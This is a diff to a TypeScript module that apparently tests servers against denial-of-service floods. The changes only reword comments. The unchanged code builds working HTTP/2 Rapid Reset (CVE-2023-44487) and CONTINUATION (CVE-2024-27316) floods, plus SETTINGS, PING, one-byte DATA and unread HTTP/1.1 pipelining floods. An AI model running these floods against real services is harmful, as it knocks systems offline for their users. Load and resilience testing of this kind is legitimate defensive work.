@@ -11,11 +11,11 @@ import {
   requestFrame,
 } from "../../clients/raw-http2.ts";
 
-/** Frames of one batch, and connections of each kind. */
+/** Steps per batch, and connections per kind of flood. */
 const batch = 200;
 const connections = 4;
 
-/** What a flood consists of, from its first batch to its last. */
+/** Returns the frames of a flood's batch, counted from 0. */
 type Flood = (turn: number) => Buffer[];
 
 function* numbers(turn: number): Generator<number> {
@@ -23,13 +23,13 @@ function* numbers(turn: number): Generator<number> {
 }
 
 const floods: Readonly<Record<string, Flood>> = {
-  // CVE-2023-44487: requests that are taken back as soon as they are made.
+  // CVE-2023-44487: requests that are reset as soon as they are made.
   resets: (turn) =>
     [...numbers(turn)].flatMap((stream) => [
       requestFrame(stream, "GET", "/v1/openapi.json", frameFlag.endHeaders | frameFlag.endStream),
       frame(frameType.reset, 0, stream, Buffer.of(0, 0, 0, 8)),
     ]),
-  // CVE-2024-27316: header fields without an end.
+  // CVE-2024-27316: header fields that never end.
   continuations: (turn) => [
     ...(turn === 0 ? [requestFrame(1, "GET", "/", 0)] : []),
     ...Array.from({ length: batch }, (_, i) =>
@@ -38,7 +38,7 @@ const floods: Readonly<Record<string, Flood>> = {
   ],
   settings: () => Array.from({ length: batch }, () => frame(frameType.settings, 0, 0)),
   pings: () => Array.from({ length: batch }, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
-  // A body in pieces of one byte, which the app does not read.
+  // A body in frames of one byte, which the app does not read.
   oneByteFrames: (turn) => [
     ...(turn === 0 ? [...numbers(0)].slice(0, 50).map((stream) => requestFrame(stream, "POST", "/")) : []),
     ...[...numbers(0)].slice(0, 50).map((stream) => frame(frameType.data, 0, stream, Buffer.of(120))),
@@ -60,7 +60,7 @@ export const tcpFloods: Attack = {
   },
 };
 
-/** @param isDeaf whether it reads none of the answers. */
+/** @param isDeaf whether the client reads no responses. */
 async function send(
   target: Target,
   kind: Flood,
@@ -74,7 +74,7 @@ async function send(
   await sleep(10);
 }
 
-/** Requests over HTTP/1.1, one behind the other, whose answers nobody reads. */
+/** Pipelines requests over HTTP/1.1 and reads no responses. */
 async function pipeline(target: Target, signal: AbortSignal, tally: Tally): Promise<void> {
   const requests = "GET /v1/openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(batch);
   while (!signal.aborted) {
